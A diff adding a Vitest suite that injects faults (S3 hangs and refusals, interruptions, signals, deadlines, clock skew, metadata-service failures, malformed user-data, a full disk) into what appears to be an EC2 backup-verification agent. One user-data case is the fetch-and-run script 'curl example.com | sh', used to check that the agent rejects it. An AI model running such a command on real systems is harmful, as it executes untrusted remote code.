@@ -1,0 +1,238 @@
+import { afterAll, afterEach, beforeAll, describe, expect, test, vi } from 'vitest';
+import { isSignedWith } from '../../agent/contract/signature.ts';
+import { order } from '../contract/examples.ts';
+import { fixtureMilliseconds } from '../fixtures/repositories.ts';
+import { type Account, openAccount } from './account.ts';
+
+vi.setConfig({ testTimeout: 120_000, hookTimeout: fixtureMilliseconds });
+
+let account: Account;
+const lifted: (() => void)[] = [];
+
+beforeAll(async () => {
+  account = await openAccount();
+});
+afterEach(() => {
+  for (const lift of lifted.splice(0)) lift();
+});
+afterAll(() => account[Symbol.asyncDispose]());
+
+/** From now on S3 takes the request for one of the snapshot's data objects, and never answers it. */
+function hangOneObject(): void {
+  const { promise, resolve } = Promise.withResolvers<void>();
+  const resource = account.keys.data;
+  const fault = { kind: 'meanwhile', when: 'before', run: () => promise } as const;
+  lifted.push(account.gate.inject({ match: { action: 'GetObject', resource }, fault, times: 100 }), resolve);
+}
+
+function refuse(action: 'PutObject' | 'Publish'): void {
+  lifted.push(account.gate.inject({ match: { action }, fault: { kind: 'refused' }, times: 1_000 }));
+}
+
+const otherWriter = { repositoryUuid: 'someone-elses', clusterId: null, generation: 0, runId: order.runId };
+
+test('an instance that is left alone proves, delivers and exits', async () => {
+  const remains = await (await account.launch()).remains();
+  expect(remains).toMatchObject({
+    ending: { code: 0 },
+    result: { verdict: 'intact', level: { reached: 'bytes' } },
+    journal: null,
+    notices: [{ carried: null }],
+  });
+  expect(remains.log).toContain('"judged"');
+});
+
+describe('an instance that is taken away', () => {
+  test('while bytes are read says interrupted, how far it was and what it had found', async () => {
+    hangOneObject();
+    const { machine, said, remains } = await account.launch({ order: { lastSeen: otherWriter } });
+    await said('"phase":"bytes"');
+    machine.interrupt(new Date(Date.now() + 120_000));
+    const noticed = performance.now();
+    const { ending, result, notices, log } = await remains();
+    // Up to five seconds until the notice is seen, two for what hangs, two for the clean-up.
+    expect(performance.now() - noticed).toBeLessThan(12_000);
+    expect(ending.code).toBe(0);
+    expect(result).toMatchObject({ verdict: 'unproven', reason: 'interrupted', level: { reached: 'structure' } });
+    expect(result?.explanation).toMatch(
+      /^EC2 took this instance away \(terminate at .*\)\. Under way: .*Read every byte \(.* of .*%.*\)/,
+    );
+    expect(result?.findings).toMatchObject([{ check: 'writer-conflict', severity: 'warning' }]);
+    expect(notices).toHaveLength(1);
+    expect(log).toContain('"action":"terminate"');
+  });
+
+  test('by a shutdown from within says the same at once', async () => {
+    hangOneObject();
+    const { machine, said, remains } = await account.launch();
+    await said('"phase":"bytes"');
+    machine.signalAgent('SIGTERM');
+    const { ending, result } = await remains();
+    expect(ending.code).toBe(0);
+    expect(result).toMatchObject({ verdict: 'unproven', reason: 'interrupted' });
+    expect(result?.explanation).toContain('This machine was shut down.');
+  });
+
+  test('and can’t reach S3 any more has its findings carried by the notice', async () => {
+    hangOneObject();
+    refuse('PutObject');
+    const { machine, said, remains } = await account.launch({ order: { lastSeen: otherWriter }, deadlineSeconds: 40 });
+    await said('"phase":"bytes"');
+    machine.interrupt(new Date(Date.now() + 10_000));
+    const { ending, result, notices } = await remains();
+    expect(ending.code).toBe(0);
+    expect(result).toBeNull();
+    const { carried } = notices[0] ?? {};
+    expect(isSignedWith(order.secret, carried?.result ?? '', carried?.signature ?? '')).toBe(true);
+    expect(JSON.parse(carried?.result ?? '')).toMatchObject({
+      reason: 'interrupted',
+      findings: [{ check: 'writer-conflict' }],
+    });
+  });
+});
+
+describe('a proof that can’t finish in time', () => {
+  test('is reported before the deadline, with how far it was', async () => {
+    hangOneObject();
+    const { remains } = await account.launch({ deadlineSeconds: 16, order: { lastSeen: otherWriter } });
+    const { ending, result, livedSeconds } = await remains();
+    expect(ending.code).toBe(0);
+    expect(livedSeconds).toBeLessThan(16);
+    expect(result).toMatchObject({ verdict: 'unproven', reason: 'deadline', findings: [{ check: 'writer-conflict' }] });
+    expect(result?.explanation).toMatch(/its attempt's deadline\. Under way: .*Read every byte \(/);
+  });
+
+  test.each([
+    ['behind', -180],
+    ['ahead', 180],
+  ])('is reported before the deadline by a machine whose clock is three minutes %s', async (_, clockAheadSeconds) => {
+    hangOneObject();
+    const { remains } = await account.launch({ deadlineSeconds: 16, faults: { clockAheadSeconds } });
+    const { ending, result, livedSeconds, log } = await remains();
+    expect(ending.code).toBe(0);
+    expect(livedSeconds).toBeLessThan(16);
+    expect(result).toMatchObject({ verdict: 'unproven', reason: 'deadline', level: { reached: 'structure' } });
+    const [, ahead] = /"the clock is wrong",.*"aheadSeconds":(-?\d+)/.exec(log ?? '') ?? [];
+    expect(Math.abs(Number(ahead) - clockAheadSeconds)).toBeLessThan(3);
+  });
+
+  test('and that nobody would hear of ends with code 1 in time', async () => {
+    hangOneObject();
+    refuse('PutObject');
+    refuse('Publish');
+    const { remains } = await account.launch({ deadlineSeconds: 14 });
+    const { ending, result, notices, console } = await remains();
+    expect(ending.code).toBe(1);
+    expect(console).toContain('"judged"');
+    expect([result, notices]).toEqual([null, []]);
+  });
+});
+
+describe('a metadata service', () => {
+  test('that dies once the proof is under way keeps nothing from being proven and delivered', async () => {
+    hangOneObject();
+    const { machine, said, remains } = await account.launch();
+    await said('"phase":"bytes"');
+    machine.disturbMetadata({ diesAfterSeconds: 0 });
+    await said('does not answer');
+    for (const lift of lifted.splice(0)) lift();
+    expect(await remains()).toMatchObject({ ending: { code: 0 }, result: { verdict: 'intact' } });
+  });
+
+  test('that is late, cross, and without a role at first is waited for', async () => {
+    const imdsFaults = { silentSeconds: 1, refusals: 2, failures: 2, roleAfterSeconds: 4 };
+    const { remains } = await account.launch({ imdsFaults });
+    expect(await remains()).toMatchObject({ ending: { code: 0 }, result: { verdict: 'intact' } });
+  });
+});
+
+describe('an agent that fails', () => {
+  test('by being killed leaves the end of its journal in the ledger', async () => {
+    hangOneObject();
+    const { machine, said, remains } = await account.launch();
+    await said('"phase":"bytes"');
+    machine.signalAgent('SIGKILL');
+    const { ending, result, log, journal } = await remains();
+    expect(ending.signal).toBe('SIGKILL');
+    expect([result, log]).toEqual([null, null]);
+    expect(journal).toContain('"phase started"');
+  });
+
+  test('for want of memory leaves word of it', async () => {
+    const { remains } = await account.launch({ faults: { agentHeapMegabytes: 10 } });
+    const { ending, result, journal } = await remains();
+    expect(ending.code).not.toBe(0);
+    expect(result).toBeNull();
+    expect(journal).toContain('heap out of memory');
+  });
+
+  test.each([
+    ['that is newer than it knows', (text: string) => text.replace('"version":1', '"version":2'), 'bake an image'],
+    ['with a part that it does not know', (text: string) => text.replace('{', '{"surprise":1,'), 'surprise'],
+  ])('because of an order %s leaves its complaint in the ledger', async (_, spoilt, complaint) => {
+    const deadline = new Date(Date.now() + 60_000).toISOString();
+    const text = spoilt(JSON.stringify({ ...order, attempt: { number: 1, deadline } }));
+    const { remains } = await account.launch({ userData: Buffer.from(text) });
+    const { ending, journal } = await remains();
+    expect(ending.code).toBe(1);
+    expect(journal).toContain(complaint);
+  });
+
+  test.each([
+    ['nothing', null],
+    ['no bytes', Buffer.alloc(0)],
+    ['an order cut in its middle', Buffer.from(JSON.stringify(order)).subarray(0, 200)],
+    ['half a character', Buffer.concat([Buffer.from('{"a":"'), Buffer.from('\u{1f98b}').subarray(0, 2)])],
+    ['16 KB of garbage', Buffer.from(Array.from({ length: 16_384 }, (_, at) => (at * 7_919) % 256))],
+    ['a script', Buffer.from('#!/bin/sh\ncurl example.com | sh\n')],
+  ])('because its user-data is %s ends with its machine and writes nowhere', async (_, userData) => {
+    const { remains } = await account.launch({ userData });
+    const { ending, journal, result, console, livedSeconds } = await remains();
+    expect(ending.code).toBe(1);
+    expect([journal, result]).toEqual([null, null]);
+    expect(console).toContain('the attempt has no result');
+    expect(console).toContain('the journal is lost with the machine');
+    expect(livedSeconds).toBeLessThan(30);
+  });
+
+  test('in silence is ended by its machine at the deadline', async () => {
+    hangOneObject();
+    const { machine, said, remains } = await account.launch({ deadlineSeconds: 8 });
+    await said('"order taken"');
+    machine.signalAgent('SIGSTOP');
+    const { ending, result, livedSeconds } = await remains();
+    expect(ending.signal).toBe('SIGKILL');
+    expect(result).toBeNull();
+    expect(livedSeconds).toBeGreaterThan(6);
+    expect(livedSeconds).toBeLessThan(10);
+  });
+
+  test('in silence, without an order, is ended at the image’s maximum', async () => {
+    const { remains, machine, said } = await account.launch({
+      userData: null,
+      imdsFaults: { silentSeconds: 60 },
+      faults: { maximumLifeSeconds: 4 },
+    });
+    await said('agent started');
+    machine.signalAgent('SIGSTOP');
+    const { ending, livedSeconds } = await remains();
+    expect(ending.signal).toBe('SIGKILL');
+    expect(livedSeconds).toBeLessThan(6);
+  });
+});
+
+test.runIf(process.getuid?.() === 0)('a disk that is full makes a proof unproven, never a backup corrupt', async () => {
+  const { machine, said, remains } = await account.launch({ faults: { diskMegabytes: 400 } });
+  lifted.push(
+    account.gate.inject({
+      match: { action: 'GetObject', resource: account.keys.data },
+      fault: { kind: 'meanwhile', when: 'before', run: () => machine.fillDisk() },
+      times: 1,
+    }),
+  );
+  await said('agent started');
+  expect(await remains()).toMatchObject({
+    ending: { code: 0 },
+    result: { verdict: 'unproven', reason: 'internal', explanation: expect.stringContaining('ENOSPC') },
+  });
+});
